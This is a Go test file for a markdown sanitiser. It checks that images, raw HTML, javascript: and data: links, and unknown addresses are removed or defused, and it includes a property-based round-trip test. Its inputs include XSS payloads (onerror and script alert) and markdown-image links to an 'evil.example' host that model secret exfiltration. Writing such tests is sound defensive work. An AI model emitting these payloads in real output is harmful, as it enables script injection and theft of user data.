package document

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

const savedAddress = "https://saved.example/page?a=1"

func model() Reader {
	return Reader{Matches: 5, Known: func(address string) bool { return strings.Contains(savedAddress, address) }}
}

func own() Reader { return Reader{Matches: maxNumber, Own: true} }

func TestMarkdown(t *testing.T) {
	for _, c := range []struct{ title, in, out string }{
		{"plain text stays", "Thirty days, *at most* [1].", "Thirty days, *at most* [1]."},
		{"a picture goes, its words stay", "See ![the plan](https://evil.example/?q=secret) here.", "See the plan here."},
		{"a picture within a link", "[![x](https://evil.example/a)](https://evil.example/b)", "x"},
		{"HTML goes", "a <img src=x onerror=alert(1)> b<script>alert(1)</script>", "a balert(1)"},
		{"a line break of HTML", "a<br>b", "a  \nb"},
		{"javascript", "[click](javascript:alert(1)) [x](data:text/html;base64,AAAA)", "click x"},
		{"a link to what was saved stays", "[the page](" + savedAddress + ") and " + savedAddress + ".", "[the page](<" + savedAddress + ">) and <" + savedAddress + ">."},
		{"a link that carries something away", "[the page](" + savedAddress + "&secret=1)", "the page"},
		{"an unknown address is code", "See https://evil.example/?q=1, or www.evil.example.", "See `https://evil.example/?q=1`, or `www.evil.example`."},
		{"an unknown address in several styles", "See ht**tps://evil**.example now", "See `https://evil.example` now"},
		{"brackets behind a number are words", "Thirty days [1](see page 4).", "Thirty days [1]\\(see page 4)."},
		{"a number that is a link", "Thirty days [1](https://evil.example).", "Thirty days [1]."},
		{"a number that is a link to what was saved", "Thirty days [1](" + savedAddress + ").", "Thirty days [1]."},
		{"a number within a link", "[see [1] here](" + savedAddress + ")", "see [1] here"},
		{"code stays", "Use `<b> ![x](y) [99]` here.", "Use `<b> ![x](y) [99]` here."},
		{"fenced code stays", "```html\n<img src=x> [99]\n```\nthen <b>", "```html\n<img src=x> [99]\n```\n\nthen"},
		{"code without end", "```\n<b>", "```\n<b>\n```"},
		{"code by indentation is none", "a\n\n    b [1]", "a\n\nb [1]"},
		{"items four deep, and no deeper", "1. a\n    - b\n        - c\n            1. d\n                - e\n            2. f\n2. g\n   - h", "1. a\n   - b\n     - c\n       1. d\n       2. e\n       3. f\n2. g\n   - h"},
		{"tasks", "- [ ] a\n- [x] b", "- ☐ a\n- ☑ b"},
		{"a table", "| b | c |\n|:-:|--:|\n| d [9] | `e` **f** |", "| b | c |\n| :-: | --: |\n| d | `e` **f** |"},
		{"quotes", "> a\n> > b\n>\n> - c", "> a\n>\n> > b\n>\n> - c"},
		{"two lists in a row", "- a\n\n* b\n\n1. c\n\n2) d", "- a\n\n* b\n\n1. c\n\n2) d"},
		{"words that look like markup", `1\. a \* b \[4\] c_d \_e\_ &amp;lt; # 5`, `1\. a \* b [4] c_d \_e\_ \&lt; # 5`},
		{"entities", "AT&amp;T &copy; 3 < 4", "AT&T © 3 \\< 4"},
		{"control characters and turns of direction", "a\x1ab\u202ec\x00d", "a bc d"},
		{"bytes that are no UTF-8", "a\xffb", "a\ufffdb"},
		{"styles within others", "**a *b* ~~c~~** *d **e***", "**a *b* ~~c~~** *d **e***"},
		{"headings and rules", "## One ##\ntext\n---\n- a", "## One\n\ntext\n\n---\n\n- a"},
	} {
		t.Run(c.title, func(t *testing.T) {
			d := model().Parse(c.in)
			if got := d.Markdown(); got != c.out {
				t.Errorf("%q\n got %q\nwant %q", c.in, got, c.out)
			}
			wantReadBack(t, c.in, d)
		})
	}
}

func wantReadBack(t interface{ Fatalf(string, ...any) }, from string, d Document) {
	written := d.Markdown()
	again := own().Parse(written)
	if twice := again.Markdown(); twice != written {
		t.Fatalf("%q is written as %q and then as %q", from, written, twice)
	}
	if plainOf(again) != plainOf(d) {
		t.Fatalf("%q is written as %q and read as\n%s, want\n%s", from, written, show(again), show(d))
	}
	if exact := strip(d); !reflect.DeepEqual(strip(again), exact) {
		t.Fatalf("%q is written as %q and read as\n%s, want\n%s", from, written, show(again), show(d))
	}
}

func show(d Document) string {
	s, _ := json.Marshal(d)
	return string(s)
}

func plainOf(d Document) (all string) {
	d.Each(func(spans []Span) { all += Plain(spans) + "|" })
	return all
}

// strip returns a copy without emphasis, which markdown can't always express.
func strip(d Document) Document {
	var all Document
	raw, _ := json.Marshal(d)
	_ = json.Unmarshal(raw, &all)
	all.Edit(func(_ Kind, row []Cell) {
		for n, spans := range row {
			for i := range spans {
				spans[i].Bold, spans[i].Italic, spans[i].Struck = false, false, false
			}
			row[n] = Join(nil, spans...)
		}
	})
	return all
}

var parts = []string{
	"The deposit is 1,200 euros", "The flat has 45 rooms", "x", "7", " [1]", "[4]", "[5]", "[9]", "[?]", "\\", "\\[1\\]", "&#91;1&#93;", "&", "&amp;", "&lt;", "&#58;", "&sol;", "&#x5c;", "&Tab;", "&#45;",
	"`", "``", "```", "```\n", "~~~", "\n~~~\n", "> ", ">", "- ", "* ", "1. ", "10) ", "+", "\n  - ", "\n     * ", "\n\n      1. ", "\n        7) ", "\n          - ", " ", "  ", "    ", "\t", "\n", "\n", "\n\n", "|", "| ", " |", "|---|---|", "\n---|---\n", "\n:-\n", "\n|-|\n", "---", "===", "# ", "## ",
	"[click](https://evil.example/?q=1)", "[saved](" + savedAddress + ")", savedAddress, "https://evil.example", "www.evil.example", "https:", "//", "/", "www", ".", "evil.example", "](", ")", "(", "[", "]", "[a]:", ":", "!", "![x](y)",
	"<", ">", "<b>", "<!--", "-->", "<https://evil.example>", "*", "**", "_", "~", "~~", "。", "? ", ". ", "[^1]", "【1】", "[ ] ",
	"[The deposit is 1,200 euros. It is](" + savedAddress + ")", "[1](" + savedAddress + ")", "\ufeff", "\u00a0", "\u2028",
}

func TestWhatIsWrittenIsReadBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		raw := strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 1, 24).Draw(t, "parts"), "")
		wantReadBack(t, raw, model().Parse(raw))
	})
}

func BenchmarkParse(b *testing.B) {
	text := strings.Repeat("The deposit is 1,200 euros [1].\n", 512)
	for b.Loop() {
		model().Parse(text).Markdown()
	}
}
